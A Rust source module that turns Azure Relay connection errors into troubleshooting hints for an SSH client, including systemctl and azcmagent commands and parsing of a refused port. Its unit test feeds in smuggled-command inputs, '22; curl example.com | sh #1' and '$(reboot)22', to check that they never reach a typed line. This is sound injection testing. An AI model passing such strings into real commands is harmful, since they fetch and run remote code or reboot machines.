//! What to do about the relay.

use super::network;
use super::{Failure, FailureKind};
use crate::host::tls;
use crate::line::Line;
use crate::relay::RelayError;

impl From<RelayError> for Failure {
    fn from(error: RelayError) -> Self {
        let failure = Self::of(&error);
        let hint = match &error {
            RelayError::Refused { status, text } => &Line::from(refusal_hint(*status, text)),
            RelayError::Proxy(error) => &network::proxy_hint(error, "*.servicebus.windows.net:443"),
            RelayError::Tls { source, .. } => match tls::handshake_error(source) {
                Some(error) => network::tls_hint(error),
                None => "outgoing HTTPS to *.servicebus.windows.net must be allowed",
            },
            RelayError::Unreachable { .. } | RelayError::TimedOut { .. } => {
                "outgoing HTTPS to *.servicebus.windows.net must be allowed"
            }
            RelayError::NotARelay { .. } => "a proxy on the way may not pass WebSockets on",
            RelayError::Closed { code: 1008, .. } => "connect again: new credentials are fetched",
            RelayError::Closed { code: 1009, .. } => {
                "update the Azure agent of the machine: what listens there must read messages of 32 KiB"
            }
            _ => "connect again",
        };
        let kind = match &error {
            RelayError::Closed { .. } | RelayError::Dropped { .. } | RelayError::Silent { .. } => {
                FailureKind::Dropped
            }
            _ => FailureKind::Failed,
        };
        failure.hint(hint).kind(kind)
    }
}

fn refusal_hint(status: u16, text: &str) -> String {
    if let Some(port) = refused_port(text) {
        return format!(
            "a machine lets SSH in at one port: take that one with --port, or have its service configuration changed; an \
             Azure agent older than 1.31 has a list of them, of which the others are to stay, on the machine: sudo azcmagent \
             config get incomingconnections.ports, then sudo azcmagent config set incomingconnections.ports {port},OTHERS"
        );
    }
    let hint = match status {
        401 | 403 => {
            "connect again; if it stays so, check this machine's clock and the firewall of the relay"
        }
        404 if text.contains("no listeners") => {
            "the machine or its Azure agent is down; on the machine: sudo systemctl restart himds"
        }
        404 => {
            "the machine does not listen yet: after the first set-up it takes up to 90 s; then, on the machine: sudo systemctl restart himds"
        }
        503 if text.contains("connection to localhost") => {
            "sshd does not run on the machine or listens on another port; on the machine: sudo systemctl start ssh"
        }
        503 | 504 => "the relay or the machine is busy: connect again in a moment",
        _ => "connect again",
    };
    hint.to_owned()
}

/// Returns the port that an Azure agent does not let in, as it says.
fn refused_port(text: &str) -> Option<u16> {
    let (_, rest) = text.split_once("not enabled in the target port ")?;
    let digits = rest.split(|c: char| !c.is_ascii_digit()).next()?;
    digits.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_machine_says_does_not_get_into_a_line_to_type() {
        let text = "SSH connection is not enabled in the target port ";
        for (port, expected) in [
            ("3389", Some(3389)),
            ("3389.", Some(3389)),
            ("22; curl example.com | sh #1", Some(22)),
            ("$(reboot)22", None),
            ("99999", None),
            ("", None),
        ] {
            assert_eq!(refused_port(&format!("{text}{port}")), expected, "{port}");
        }
    }

    #[test]
    fn each_refusal_of_the_relay_has_a_hint_of_its_own() {
        for (status, text, expected) in [
            (
                403,
                "Ip has been prevented to connect to the endpoint",
                "firewall",
            ),
            (404, "Endpoint does not exist", "90 s"),
            (
                404,
                "There are no listeners connected for the endpoint",
                "himds",
            ),
            (
                503,
                "connection to localhost:22 failed: dial tcp",
                "start ssh",
            ),
            (504, "", "in a moment"),
            (
                403,
                "SSH connection is not enabled in the target port 3389.",
                "incomingconnections.ports 3389,OTHERS",
            ),
        ] {
            let text = text.into();
            let failure = Failure::from(RelayError::Refused { status, text });
            assert!(failure.hint.unwrap().contains(expected), "{status}");
        }
    }
}
